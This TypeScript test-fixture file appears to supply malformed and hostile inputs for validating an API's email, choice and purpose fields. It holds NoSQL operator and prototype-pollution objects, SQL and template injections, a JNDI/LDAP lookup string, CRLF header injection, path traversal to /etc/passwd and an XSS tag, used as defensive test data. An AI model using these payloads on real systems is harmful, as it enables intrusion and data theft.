import type { Random } from '../race/random.ts';
import { CANARY } from './canary.ts';
import { RawJson } from './raw-json.ts';

/** What is wrong with it, and the value or how to make one. */
export type Bad = readonly [says: string, value: unknown | ((random: Random) => unknown)];

const NUMBERS = ['1e999', '-1e999', '1e-999', '-0', '9007199254740993', '0.1e1', '123456789e300'];

/** MongoDB's, JavaScript's and SQL's ways to be let in. */
const OPERATORS: readonly object[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '.*' },
  { $where: 'sleep(1000)' },
  { $or: [{}, { a: CANARY.word }] },
  { toString: CANARY.word },
  { length: 1, 0: CANARY.email },
  { constructor: { prototype: { isAdmin: true } } },
  JSON.parse(`{"__proto__":{"isAdmin":true,"email":"${CANARY.email}"}}`),
];

export const NOT_A_TEXT: readonly Bad[] = [
  ['no text', null],
  ['no text', true],
  ['no text', 7],
  ['no text', []],
  ['no text', [CANARY.email]],
  ['no text', [[[CANARY.email]]]],
  ['no text', {}],
  ...NUMBERS.map((text): Bad => ['impossible number', new RawJson(text)]),
  ...OPERATORS.map((value): Bad => ['operator', value]),
];

export const NOT_AN_OBJECT: readonly unknown[] = [
  null,
  true,
  0,
  '',
  CANARY.email,
  '[object Object]',
  [],
  [[]],
  [CANARY.email],
  ...NUMBERS.map((text) => new RawJson(text)),
];

export const NOT_A_LIST: readonly unknown[] = [
  null,
  false,
  1,
  CANARY.email,
  {},
  ...NUMBERS.map((text) => new RawJson(text)),
  ...OPERATORS,
];

export const UNKNOWN_NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '$where',
  '$ne',
  '',
  ' ',
  '\0',
  'a/b~c',
  '%2e%2e',
  '../../etc/passwd',
  'é',
  '🙂',
  'x\r\ny: z',
  '<script>alert(1)</script>',
  'isAdmin',
  CANARY.word,
  CANARY.email,
];

/** Three bytes of it become nine in a pointer. */
const LONG_NAME = CANARY.word + '\u20ac'.repeat(13);

/** Sometimes so long that an answer that repeats it could not be delivered. */
export const longName = (random: Random) =>
  LONG_NAME.repeat(random.chance(0.05) ? 60_000 : random.between(2, 200));

/** JSON can escape it, and UTF-8 has no bytes for it. */
export const HALF_A_CHARACTER: Bad = ['half a character', `${CANARY.word}\ud83d`];

export const injected = (text: string): readonly Bad[] => [
  ['CRLF injection', `${text}\r\nBcc: ${CANARY.email}`],
  ['NUL', `${text}\0`],
  ['injection', `${text}' OR '1'='1`],
  ['injection', `\${jndi:ldap://${CANARY.word}.example.com/a}`],
  ['injection', `{{constructor.constructor('return 1')()}}`],
];

export const over = (characters: number): Bad => ['oversized', CANARY.word.repeat(characters)];

/** No whole number from 1 on. */
export const NOT_A_COUNT: readonly Bad[] = [
  ['no number', null],
  ['no number', '1'],
  ['no number', [1]],
  ['no number', { $gt: 0 }],
  ['no number', true],
  ['no whole number', 1.5],
  ['negative', -1],
  ['impossible number', new RawJson('1e999')],
  ['impossible number', new RawJson('-1e999')],
  ['impossible number', new RawJson('1e300')],
  ['impossible number', new RawJson('9007199254740993')],
];

/** A word of a closed list. */
export const NOT_A_CHOICE: readonly Bad[] = [
  ['empty', ''],
  ['unknown word', '__proto__'],
  ['unknown word', 'constructor'],
  ['unknown word', 'toString'],
  ['unknown word', CANARY.word],
  ['other spelling', 'Email'],
  ['other spelling', ' email'],
  ['other spelling', 'email '],
  ['homoglyph', '\u0435mail'],
  ['homoglyph', 'em\u200bail'],
  ['wildcard', '*'],
  ['wildcard', 'email.*'],
  HALF_A_CHARACTER,
  ...injected('email'),
  over(100),
];

/** Purposes that cannot be one; what could be one and is not, each route answers in its own way. */
export const NOT_A_PURPOSE: readonly Bad[] = [
  ['empty', ''],
  ['other spelling', 'Newsletter'],
  ['other spelling', 'news letter'],
  ['other spelling', '-newsletter'],
  ['other spelling', '1newsletter'],
  ['unknown word', '__proto__'],
  ['homoglyph', 'newsl\u0435tter'],
  ['wildcard', '*'],
  ...injected('newsletter'),
  over(4),
];
